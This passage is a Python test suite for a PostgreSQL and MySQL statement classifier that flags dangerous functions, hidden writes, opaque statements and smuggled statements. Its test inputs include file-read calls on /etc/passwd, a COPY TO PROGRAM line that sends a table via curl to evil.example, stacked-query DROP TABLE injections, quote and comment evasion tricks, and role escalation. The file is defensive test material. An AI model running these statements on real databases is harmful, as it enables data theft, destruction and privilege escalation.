    "ALTER TABLE t ALTER COLUMN a SET DEFAULT {f}",
    "CREATE INDEX i ON t (({f}))",
    "CREATE VIEW v AS SELECT {f}",
    "COPY (SELECT {f}) TO STDOUT",
    "COPY t FROM STDIN WHERE a = {f}",
    "EXPLAIN ANALYZE SELECT {f}",
    "PREPARE p AS SELECT {f}",
    "DECLARE c CURSOR FOR SELECT {f}",
    "CALL proc({f})",
    "SELECT 1 UNION SELECT {f}",
    "SELECT * FROM (SELECT {f}) AS sub",
]


@pytest.mark.parametrize("site", CALL_SITES)
def test_functions_are_found_everywhere(site: str) -> None:
    info = one(site.format(f="pg_read_file('/etc/passwd')"))
    assert "pg_read_file" in info.functions
    qualified = one(site.format(f="pg_catalog.pg_read_file('/etc/passwd')"))
    assert {"pg_read_file", "pg_catalog.pg_read_file"} <= qualified.functions


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') AS f(x)",
        "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'))",
        "SELECT * FROM t, LATERAL pg_read_file(t.path) f",
        "SELECT * FROM t CROSS JOIN LATERAL pg_read_file(t.path) f",
    ],
)
def test_functions_in_from(sql: str) -> None:
    assert "pg_read_file" in one(sql).functions


@pytest.mark.parametrize(
    ("sql", "names"),
    [
        ("SELECT \"pg_read_file\"('x')", {"pg_read_file"}),
        ("SELECT PG_READ_FILE('x')", {"pg_read_file"}),
        ("SELECT U&\"\\0070g_read_file\"('x')", {"pg_read_file"}),
        ("SELECT U&\"!0070g_read_file\" UESCAPE '!' ('x')", {"pg_read_file"}),
        ('SELECT "pg_catalog"."pg_read_file"(\'x\')', {"pg_read_file", "pg_catalog.pg_read_file"}),
        ("SELECT now(), substr('abc', 1)", {"now", "substr"}),
        ("SELECT x.y.f(1)", {"f", "x.y.f"}),
    ],
)
def test_function_names_as_written(sql: str, names: set[str]) -> None:
    assert names <= one(sql).functions


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT `load_file`('/etc/passwd')",
        "SELECT LOAD_FILE ('/etc/passwd')",
        "SET @x := (SELECT load_file('/etc/passwd'))",
        "SHOW TABLES WHERE load_file('/etc/passwd') IS NOT NULL",
        "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = load_file('/etc/passwd')",
    ],
)
def test_mysql_functions(sql: str) -> None:
    assert "load_file" in one(sql, "mysql").functions


def test_no_functions_in_plain_statements() -> None:
    assert one("SELECT a, b FROM t WHERE c = 1").functions == frozenset()
    assert one("INSERT INTO t (a, b) VALUES (1, 2)").functions == frozenset()


# --- writes inside statements ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "inner"),
    [
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete"),
        ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", "update"),
        ("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "insert"),
        ("WITH a AS (SELECT 1), d AS (DELETE FROM t) SELECT * FROM a", "delete"),
        ("WITH d AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM d", "delete"),
        ("COPY (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) TO STDOUT", "delete"),
        ("EXPLAIN ANALYZE DELETE FROM t", "delete"),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "update"),
        ("PREPARE p (int) AS DELETE FROM t WHERE id = $1", "delete"),
        ("SELECT * INTO new_t FROM t", "create table"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "delete"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", "update"),
        ("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "update"),
        ("SELECT 1 AS a INTO TEMP TABLE new_t", "create table"),
    ],
)
def test_writes_inside_other_statements(sql: str, inner: str) -> None:
    info = one(sql)
    assert info.writes
    assert inner in info.inner_kinds
    assert inner in info.kinds


def test_mysql_upsert_updates() -> None:
    info = one("INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2", "mysql")
    assert info.inner_kinds == {"update"}
    assert one("REPLACE INTO t VALUES (1)", "mysql").inner_kinds == {"insert", "delete"}


def test_mysql_select_into_variable_is_not_a_write() -> None:
    info = one("SELECT a INTO @v FROM t", "mysql")
    assert (info.writes, info.inner_kinds, info.opaque) == (False, frozenset(), False)


# --- opaque -----------------------------------------------------------------------------------

OPAQUE: list[tuple[SqlDialect, str, str]] = [
    ("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "do"),
    ("postgres", "DO LANGUAGE plpgsql $body$ BEGIN NULL; END $body$", "do"),
    (
        "postgres",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN END $$",
        "create function",
    ),
    ("postgres", "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1", "create function"),
    (
        "postgres",
        "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'",
        "create procedure",
    ),
    ("postgres", "CALL p()", "call"),
    ("postgres", "EXECUTE p", "execute"),
    ("postgres", "EXECUTE p (1, 2)", "execute"),
    ("postgres", "COPY t TO PROGRAM 'curl -d @- https://evil.example'", "copy program"),
    ("postgres", "COPY t FROM PROGRAM 'id'", "copy program"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'id'", "copy program"),
    ("postgres", "COPY t TO '/tmp/out'", "copy file"),
    ("postgres", "LOAD 'plugin'", "load"),
    ("postgres", "ALTER ROLE bob SUPERUSER", "alter role"),
    ("postgres", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", "create rule"),
    ("postgres", "VACUUM t", "vacuum"),
    ("postgres", "CHECKPOINT", "checkpoint"),
    ("postgres", "frobnicate", "unknown"),
    ("postgres", "SELECT FROM WHERE", "select"),
    ("postgres", "DR/**/OP TABLE t", "unknown"),
    ("postgres", "SET ROLE postgres", "set role"),
    ("postgres", "SET LOCAL ROLE postgres", "set role"),
    ("postgres", "SET SESSION AUTHORIZATION postgres", "set session authorization"),
    ("postgres", "SET client_encoding = 'SJIS'", "set client_encoding"),
    ("postgres", "SET NAMES 'BIG5'", "set client_encoding"),
    ("postgres", "SET session_replication_role = replica", "set session_replication_role"),
    ("postgres", "SET standard_conforming_strings = off", "set standard_conforming_strings"),
    ("postgres", "SET app.tenant_id = '7'", "set app.tenant_id"),
    ("postgres", "SET log_statement = 'none'", "set log_statement"),
    ("postgres", "SELECT set_config('role', 'postgres', false)", "select"),
    ("postgres", "SELECT set_config($1, $2, false)", "select"),
    ("postgres", "SELECT set_config('client_encoding', 'GBK', false)", "select"),
    ("postgres", "BEGIN ATOMIC", "unknown"),
    ("postgres", "COMMIT PREPARED 'gid'", "commit prepared"),
    ("mysql", "/*!50000 DROP TABLE t */", "unknown"),
    ("mysql", "SELECT 1 /*!50000 , sleep(10) */", "select"),
    ("mysql", "SELECT 1 /*M! , sleep(10) */", "select"),
    ("mysql", "INSERT /*+ SET_VAR(foreign_key_checks=OFF) */ INTO t VALUES (1)", "insert"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "load data"),
    ("mysql", "SELECT * FROM t INTO OUTFILE '/var/lib/mysql-files/x'", "select"),
    ("mysql", "SELECT 'x' INTO DUMPFILE '/tmp/x'", "select"),
    ("mysql", "PREPARE s FROM 'DROP TABLE t'", "prepare"),
    ("mysql", "DO sleep(1)", "do"),
    ("mysql", "CALL p()", "call"),
    ("mysql", "SET NAMES gbk", "set names"),
    ("mysql", "SET GLOBAL sql_mode = ''", "set global"),
    ("mysql", "SET @@global.max_connections = 1", "set global"),
    ("mysql", "SET sql_log_bin = 0", "set sql_log_bin"),
    ("mysql", "SET foreign_key_checks = 0", "set foreign_key_checks"),
    ("mysql", "RESET MASTER", "reset"),
    ("mysql", "INSTALL PLUGIN x SONAME 'x.so'", "install"),
]


@pytest.mark.parametrize(("dialect", "sql", "kind"), OPAQUE)
def test_opaque(dialect: SqlDialect, sql: str, kind: str) -> None:
    info = one(sql, dialect)
    assert info.opaque, info
    assert info.opaque_reason
    assert info.kind == kind


def test_set_config_with_a_safe_setting_is_not_opaque() -> None:
    info = one("SELECT set_config('application_name', 'x', false)")
    assert (info.opaque, info.functions) == (False, frozenset({"set_config"}))


def test_parse_failure_sets_error_for_that_statement_only() -> None:
    result = classify("SELECT 1; SELECT FROM WHERE; DROP TABLE t", "postgres")
    assert [s.kind for s in result.statements] == ["select", "select", "drop table"]
    assert [s.opaque for s in result.statements] == [False, True, False]
    assert result.error is not None and "does not parse" in result.error


# --- lexing -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kinds"),
    [
        ("SELECT 1; DROP TABLE t", ["select", "drop table"]),
        ("SELECT 1;;; ;DROP TABLE t;", ["select", "drop table"]),
        ("SELECT $$; DROP TABLE t; $$", ["select"]),
        ("SELECT $tag$ $$; DROP TABLE t; $$ $tag$", ["select"]),
        ("SELECT $a$ $b$ $a$; DROP TABLE t", ["select", "drop table"]),
        ("SELECT a$b$c FROM t; DROP TABLE t", ["select", "drop table"]),  # $ inside an identifier
        ("SELECT ';DROP TABLE t;'", ["select"]),
        ("SELECT 'it''s'; DROP TABLE t", ["select", "drop table"]),
        ("SELECT E'it\\'s; DROP TABLE t'", ["select"]),
        ("SELECT E'\\\\'; DROP TABLE t", ["select", "drop table"]),
        ("SELECT 'a'\n'; DROP TABLE t; '", ["select"]),  # continuation across a newline
        ("SELECT 'a' -- c\n'; DROP TABLE t; '", ["select"]),
        ('SELECT "a;b"; DROP TABLE t', ["select", "drop table"]),
        ('SELECT "a"";DROP TABLE t;"', ["select"]),
        ("SELECT 1 -- ; DROP TABLE t", ["select"]),
        ("SELECT 1 -- c\r; DROP TABLE t", ["select", "drop table"]),
        ("SELECT 1 /* ; DROP TABLE t */", ["select"]),
        ("SELECT 1 /* /* */ ; DROP TABLE t */", ["select"]),  # comments nest
        ("/* /* */ */ DROP TABLE t", ["drop table"]),
        ("SELECT 1 /*/ ; DROP TABLE t */", ["select"]),
        ("SELECT 2*/*x*/3; DROP TABLE t", ["select", "drop table"]),
        ("SELECT 1--2\n; DROP TABLE t", ["select", "drop table"]),
    ],
)
def test_statement_boundaries(sql: str, kinds: list[str]) -> None:
    assert [s.kind for s in classify(sql, "postgres").statements] == kinds


@pytest.mark.parametrize(
    ("sql", "kinds"),
    [
        ("SELECT 1; DROP TABLE t", ["select", "drop table"]),
        ("SELECT ';DROP TABLE t'", ["select"]),
        ('SELECT ";DROP TABLE t"', ["select"]),
        ("SELECT `;DROP TABLE t`", ["select"]),
        ("SELECT 1 # ; DROP TABLE t", ["select"]),
        ("SELECT 1 -- ; DROP TABLE t", ["select"]),
        ("SELECT 1 --; DROP TABLE t", ["select", "drop table"]),  # no space: not a comment
        ("SELECT 1 /* ; DROP TABLE t */", ["select"]),
        ("SELECT 1 /* /* */ ; DROP TABLE t */", ["select", "drop table"]),  # no nesting in MySQL
        ("SELECT 'a''b'; DROP TABLE t", ["select", "drop table"]),
    ],
)
def test_mysql_statement_boundaries(sql: str, kinds: list[str]) -> None:
    assert [s.kind for s in classify(sql, "mysql").statements] == kinds


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        # The server reads these differently depending on settings we cannot see.
        ("postgres", "SELECT 'a\\'; DROP TABLE t; -- '"),
        ("mysql", "SELECT 'a\\'; DROP TABLE t; -- '"),
        ("mysql", 'SELECT "a\\"; DROP TABLE t; -- "'),
        # The server rejects these outright.
        ("postgres", "SELECT 'unterminated"),
        ("postgres", "SELECT $$ unterminated"),
        ("postgres", "SELECT 1 /* /* */"),
        ("postgres", 'SELECT ""'),
        ("postgres", "SELECT U&'\\zzzz'"),
        ("mysql", "SELECT 1 /* unterminated"),
        ("mysql", "SELECT `unterminated"),
    ],
)
def test_unreadable_text_is_one_opaque_unknown(dialect: SqlDialect, sql: str) -> None:
    result = classify(sql, dialect)
    assert result.error is not None
    [info] = result.statements
    assert (info.kind, info.opaque, info.text) == ("unknown", True, sql)


@pytest.mark.parametrize(
    ("dialect", "escapes", "kinds"),
    [
        # The protocol tells the session the string mode; with it, the reading is exact.
        ("postgres", False, ["select", "drop table"]),
        ("postgres", True, ["select"]),
        ("mysql", False, ["select", "drop table"]),
        ("mysql", True, ["select"]),
    ],
)
def test_known_string_mode_removes_the_ambiguity(
    dialect: SqlDialect, escapes: bool, kinds: list[str]
) -> None:
    result = classify("SELECT 'a\\'; DROP TABLE t; -- '", dialect, backslash_escapes=escapes)
    assert result.error is None
    assert [s.kind for s in result.statements] == kinds


def test_mysql_clients_backslash_escaped_quotes() -> None:
    sql = "INSERT INTO people (name) VALUES ('O\\'Brien')"
    assert one(sql, "mysql").opaque  # mode unknown: ambiguous
    info = classify(sql, "mysql", backslash_escapes=True).statements[0]
    assert (info.kind, info.opaque) == ("insert", False)
    # ANSI_QUOTES is never reported, so a backslash in "..." stays ambiguous.
    assert classify('SELECT "a\\"', "mysql", backslash_escapes=True).statements[0].opaque


def test_backslashes_that_cannot_end_a_string_are_fine() -> None:
    assert not one("SELECT 'C:\\\\temp\\\\x' AS path").opaque
    assert not one('SELECT \'{"a": "b\\\\n"}\'::jsonb').opaque
    assert not one("SELECT 'a\\\\b'", "mysql").opaque


def test_statement_text_is_the_original_slice() -> None:
    sql = "  /* hi */ SELECT 1 ;\n\tDROP TABLE  t  ;  "
    assert [s.text for s in classify(sql, "postgres").statements] == [
        "/* hi */ SELECT 1",
        "DROP TABLE  t",
    ]


def test_empty_text_has_no_statements() -> None:
    for sql in ("", "   ", ";", " ; ; ", "-- just a comment", "/* c */"):
        result = classify(sql, "postgres")
        assert (result.statements, result.error) == ((), None)


def test_non_ascii_space_is_part_of_a_word_like_in_the_server() -> None:
    # PostgreSQL reads U+00A0 as an identifier character: "DROP\u00a0TABLE" is one word, and the
    # statement is a syntax error there; it must not pass as anything harmless here.
    info = one("DROP\u00a0TABLE t")
    assert info.opaque


# --- PREPARE / EXECUTE ------------------------------------------------------------------------


def test_execute_resolves_through_the_session() -> None:
    info = one("EXECUTE purge (5)", prepared={"purge": "DELETE FROM t WHERE id = $1"})
    assert (info.kind, info.name, info.opaque, info.writes) == ("execute", "purge", False, True)
    assert "delete" in info.kinds
    assert info.body == "DELETE FROM t WHERE id = $1"


def test_execute_names_fold_like_the_server() -> None:
    assert one("EXECUTE Purge", prepared={"purge": "DELETE FROM t"}).inner_kinds == {"delete"}
    assert one('EXECUTE "Purge"', prepared={"purge": "DELETE FROM t"}).opaque


def test_execute_of_a_prepare_in_the_same_text() -> None:
    result = classify("PREPARE p AS DELETE FROM t; EXECUTE p", "postgres")
    prepare, execute = result.statements
    assert (prepare.name, prepare.body) == ("p", "DELETE FROM t")
    assert "delete" in execute.inner_kinds and not execute.opaque


def test_execute_arguments_are_evaluated() -> None:
    info = one("EXECUTE p (pg_read_file('/etc/passwd'))", prepared={"p": "SELECT $1"})
    assert "pg_read_file" in info.functions


def test_execute_cannot_loop() -> None:
    info = one("EXECUTE a", prepared={"a": "EXECUTE b", "b": "EXECUTE a"})
    assert info.opaque


def test_prepare_body_comes_from_the_statement_not_the_cache() -> None:
    cache_clear()
    first = one("PREPARE p AS SELECT 'one'")
    second = one("PREPARE p AS SELECT 'two'")
    assert (first.body, second.body) == ("SELECT 'one'", "SELECT 'two'")
    assert cache_info()["hits"] >= 1


# --- the cache --------------------------------------------------------------------------------


def test_statements_differing_only_in_literals_share_an_entry() -> None:
    cache_clear()
    one("SELECT a FROM t WHERE id = 1 AND name = 'x'")
    one("SELECT a FROM t WHERE id = 99 AND name = 'something else'")
    one("select  a\nfrom t /* c */ where id = 7 and name = $$y$$")
    info = cache_info()
    assert (info["misses"], info["hits"]) == (1, 2)


@pytest.mark.parametrize(
    ("benign", "risky"),
    [
        ("SELECT 1", "SELECT pg_read_file('x')"),
        ("SELECT lower('x')", "SELECT pg_read_file('x')"),
        ("SELECT 'pg_read_file'", "SELECT pg_read_file('x')"),
        ('SELECT "a"(1)', 'SELECT "pg_read_file"(1)'),
        ("SELECT a FROM t", "SELECT a FROM t; DROP TABLE t"),
        (
            "SELECT set_config('application_name', 'x', false)",
            "SELECT set_config('role', 'x', false)",
        ),
        (
            "SELECT set_config('client_encoding', 'UTF8', false)",
            "SELECT set_config('client_encoding', 'SJIS', false)",
        ),
        ("SET application_name = 'x'", "SET client_encoding = 'SJIS'"),
        ("SET client_encoding = 'UTF8'", "SET client_encoding = 'SJIS'"),
        ("COPY t TO STDOUT", "COPY t TO '/tmp/x'"),
        ("SELECT 1 FROM t", "SELECT 1 FROM t WITH x"),
    ],
)
def test_structure_is_never_shared(benign: str, risky: str) -> None:
    cache_clear()
    a = classify(benign, "postgres")
    b = classify(risky, "postgres")
    assert a != b
    # and in the other order, from a warm cache
    assert classify(risky, "postgres") == b
    assert classify(benign, "postgres") == a


def test_do_is_opaque_whatever_its_body() -> None:
    cache_clear()
    assert one("DO $$ BEGIN RAISE NOTICE 'hi'; END $$").opaque
    assert one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").opaque
    assert one("DO 'BEGIN NULL; END'").opaque


def test_mysql_executable_comment_never_shares_with_plain_select() -> None:
    cache_clear()
    assert not one("SELECT 1", "mysql").opaque
    assert one("SELECT 1 /*!, sleep(5) */", "mysql").opaque
    assert not one("SELECT 1 /* , sleep(5) */", "mysql").opaque


@settings(max_examples=200, deadline=None)
@given(
    number=st.integers(min_value=0, max_value=10**12),
    text=st.text(alphabet=st.characters(codec="utf-8"), max_size=30),
)
def test_literal_values_never_change_the_classification(number: int, text: str) -> None:
    quoted = "'" + text.replace("'", "''") + "'"
    for template in (
        "SELECT a FROM t WHERE id = {n} AND b = {s}",
        "INSERT INTO t VALUES ({n}, {s})",
        "DELETE FROM t WHERE a = {s}",
        "SELECT pg_read_file({s}, {n}, {n})",
        "COPY t TO PROGRAM {s}",
    ):
        sql = template.format(n=number, s=quoted)
        base = template.format(n=1, s="'x'")
        if "\\" in text:
            continue  # a backslash may make the text ambiguous, which is tested elsewhere
        got = [
            (s.kind, s.functions, s.writes, s.inner_kinds, s.opaque)
            for s in classify(sql, "postgres").statements
        ]
        want = [
            (s.kind, s.functions, s.writes, s.inner_kinds, s.opaque)
            for s in classify(base, "postgres").statements
        ]
        assert got == want, sql


# --- robustness -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        # Each of these made a backtracking regular expression take minutes.
        ("postgres", "SELECT 'x'" + " \n" * 20000 + "y"),
        ("postgres", "SELECT 'x'" + "\n-- c" * 20000 + "y"),
        ("postgres", "SELECT '" + "''" * 20000),
        ("postgres", "SELECT E'" + "\\'" * 20000),
        ("postgres", "/*" * 20000 + "*/" * 19999),
        ("postgres", "SELECT $a$" + "$" * 20000),
        ("postgres", "SELECT " + "1" * 20000 + "x"),
        ("postgres", "SELECT " + "+-" * 20000 + "1"),
        ("postgres", "SELECT 1 *" + "+-" * 20000 + "--\n1"),
        ("postgres", "SELECT " + "(" * 3000 + "1" + ")" * 3000),
        ("postgres", "SELECT " + "f(" * 3000 + ")" * 3000),
        ("postgres", "SELECT " + "1, " * 20000 + "1"),
        ("mysql", "SELECT '" + "\\'" * 20000),
        ("mysql", "SELECT " + "1" * 20000 + "x"),
        ("mysql", "SELECT 1 " + "-- \n" * 20000),
    ],
)
def test_pathological_input_is_fast(dialect: SqlDialect, sql: str) -> None:
    start = time.perf_counter()
    classify(sql, dialect)
    assert time.perf_counter() - start < 5


def test_parse_errors_read_well() -> None:
    error = classify("SELECT FROM WHERE", "postgres").error
    assert error is not None
    assert "Token" not in error and "Line" not in error and "\x1b" not in error


SQLISH = st.text(
    alphabet=st.sampled_from(
        list("abcdefgsSELECTDROP ;'\"$`\\/*-#\n\t()[],.:=!@&|?0123456789uUeE\u00a0")
    ),
    max_size=80,
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sql=st.one_of(st.text(max_size=60), SQLISH), dialect=st.sampled_from(["postgres", "mysql"]))
def test_classify_never_raises(sql: str, dialect: SqlDialect) -> None:
    result = classify(sql, dialect)
    for info in result.statements:
        assert info.kind
        assert info.opaque == (info.opaque_reason is not None)
